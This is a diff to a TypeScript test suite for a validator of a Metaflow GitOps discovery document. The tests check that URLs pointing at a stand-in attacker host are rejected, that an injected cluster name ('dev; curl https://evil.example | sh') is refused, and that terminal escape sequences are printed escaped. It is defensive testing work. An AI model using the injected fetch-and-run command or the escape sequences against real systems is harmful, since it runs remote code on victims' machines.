@@ -28,9 +28,11 @@ const valid: DiscoveryDocument = {
   uiUrl: 'https://dev.metaflow.example.com/',
 };
 
-function issuesOf(doc: unknown): string[] {
+const DOC_URL = 'https://dev.metaflow.example.com/.well-known/metaflow-gitops.json';
+
+function issuesOf(doc: unknown, url = DOC_URL): string[] {
   try {
-    validateDiscovery(doc, 'https://dev.metaflow.example.com/.well-known/metaflow-gitops.json');
+    validateDiscovery(doc, url);
   } catch (err) {
     if (err instanceof DiscoveryError) return err.issues.map((i) => `${i.path}: ${i.message}`);
     throw err;
@@ -42,7 +44,7 @@ describe('validateDiscovery', () => {
   test('accepts a complete document and ignores unknown fields', () => {
     expect(issuesOf(valid)).toEqual([]);
     expect(issuesOf({ ...valid, futureField: { x: 1 } })).toEqual([]);
-    expect(validateDiscovery(valid, 'u')).toBe(valid);
+    expect(validateDiscovery(valid, DOC_URL)).toBe(valid);
   });
 
   test.each<[string, unknown, string[]]>([
@@ -149,13 +151,101 @@ describe('validateDiscovery', () => {
   });
 
   test('http is fine for loopback and in-cluster URLs', () => {
-    expect(issuesOf({ ...valid, issuer: 'http://localhost:8080', serviceUrl: 'http://127.0.0.1:9000/cli/' })).toEqual([]);
+    const local = { ...valid, issuer: 'http://localhost:8080', serviceUrl: 'http://127.0.0.1:9000/cli/', uiUrl: 'http://127.0.0.1:9000/' };
+    expect(issuesOf(local, 'http://127.0.0.1:9000/.well-known/metaflow-gitops.json')).toEqual([]);
+  });
+
+  // A copy of a real document served by another host (the URL the user was tricked into): every
+  // URL the CLI sends a token to, writes into the profile or the kubeconfig must stay on that
+  // host, in the cluster, or on the AWS hosts of the stage's region.
+  const ATTACKER = 'https://attacker.example.net';
+  test.each<[string, Record<string, unknown>, string]>([
+    [
+      'service URL elsewhere',
+      { serviceUrl: `${ATTACKER}/cli/` },
+      `serviceUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to), got "${ATTACKER}/cli/"`,
+    ],
+    [
+      'service URL on another port of the stage host',
+      { serviceUrl: 'https://dev.metaflow.example.com:8443/cli/' },
+      'serviceUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to), got "https://dev.metaflow.example.com:8443/cli/"',
+    ],
+    [
+      'UI URL elsewhere',
+      { uiUrl: `${ATTACKER}/` },
+      `uiUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to), got "${ATTACKER}/"`,
+    ],
+    [
+      'webhook elsewhere',
+      { argoEvents: { ...valid.argoEvents, webhookUrl: `${ATTACKER}/events` } },
+      `argoEvents.webhookUrl: must be on the stage host https://dev.metaflow.example.com (the URL you are logging in to) or an in-cluster URL, got "${ATTACKER}/events"`,
+    ],
+    [
+      'internal service URL outside the cluster',
+      { serviceInternalUrl: 'http://attacker.example.net:8080' },
+      'serviceInternalUrl: must be an in-cluster URL (http://<service>.<namespace>.svc.cluster.local:<port>), got "http://attacker.example.net:8080"',
+    ],
+    [
+      'cluster endpoint elsewhere',
+      { clusterEndpoint: `${ATTACKER}` },
+      `clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "${ATTACKER}"`,
+    ],
+    [
+      'cluster endpoint in another region',
+      { clusterEndpoint: 'https://ABC.gr7.eu-west-1.eks.amazonaws.com' },
+      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://ABC.gr7.eu-west-1.eks.amazonaws.com"',
+    ],
+    [
+      'cluster endpoint whose host only starts like EKS',
+      { clusterEndpoint: 'https://ABC.gr7.us-west-2.eks.amazonaws.com.attacker.example.net' },
+      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://ABC.gr7.us-west-2.eks.amazonaws.com.attacker.example.net"',
+    ],
+    [
+      'cluster endpoint on loopback',
+      { clusterEndpoint: 'https://127.0.0.1:6443' },
+      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://127.0.0.1:6443"',
+    ],
+    [
+      'hosted UI elsewhere (logout sends it the refresh token)',
+      { cognitoDomain: ATTACKER },
+      `cognitoDomain: must be a Cognito hosted-UI domain of us-west-2 (https://<prefix>.auth.us-west-2.amazoncognito.com), got "${ATTACKER}"`,
+    ],
+    [
+      'issuer elsewhere',
+      { issuer: `${ATTACKER}/us-west-2_AbCdEf123` },
+      `issuer: must be the Cognito issuer of us-west-2 (https://cognito-idp.us-west-2.amazonaws.com/<pool id>), got "${ATTACKER}/us-west-2_AbCdEf123"`,
+    ],
+  ])('bound to the stage: %s', (_what, change, issue) => {
+    expect(issuesOf({ ...valid, ...change })).toEqual([issue]);
+  });
+
+  test('a cluster name that is not an EKS name (it ends up in a command the user pastes) is refused', () => {
+    expect(issuesOf({ ...valid, clusterName: 'dev; curl https://evil.example | sh' })).toEqual([
+      'clusterName: must be an EKS cluster name (letters, digits, - and _), got "dev; curl https://evil.example | sh"',
+    ]);
+  });
+
+  test('bound to the stage: EKS endpoints of the stage region (commercial partition, the only one stages use; any case) pass', () => {
+    expect(issuesOf({ ...valid, clusterEndpoint: 'https://ABCDEF0123456789.gr7.us-west-2.eks.amazonaws.com' })).toEqual([]);
+    expect(issuesOf({ ...valid, clusterEndpoint: 'https://abc.yl4.us-west-2.eks.amazonaws.com/' })).toEqual([]);
   });
 
   test('the error message lists every issue and says what to check', () => {
-    expect(() => validateDiscovery({ ...valid, region: '', stage: '' }, 'https://x/.well-known/metaflow-gitops.json')).toThrow(
-      /invalid discovery document at https:\/\/x\/\.well-known\/metaflow-gitops\.json:\n {2}stage: .*\n {2}region: .*\nThe stage publishes this document/,
+    expect(() => validateDiscovery({ ...valid, region: '', stage: '' }, DOC_URL)).toThrow(
+      /invalid discovery document at https:\/\/dev\.metaflow\.example\.com\/\.well-known\/metaflow-gitops\.json:\n {2}stage: .*\n {2}region: .*\nThe stage publishes this document/,
     );
+  });
+
+  test('values are printed escaped: no terminal control sequence from the document reaches the screen', () => {
+    const hostile = '\u001b]0;owned\u0007\u009b2J\u202e';
+    let message = '';
+    try {
+      validateDiscovery({ ...valid, cliClientId: 5, kubernetesNamespace: hostile }, DOC_URL);
+    } catch (err) {
+      message = (err as Error).message;
+    }
+    expect(message).toContain('kubernetesNamespace: must be a Kubernetes namespace name, got "\\u001b]0;owned\\u0007\\x9b2J\\u202e"');
+    expect([...message].filter((ch) => ch !== '\n' && /[\p{Cc}\u202e]/u.test(ch))).toEqual([]);
   });
 });
 
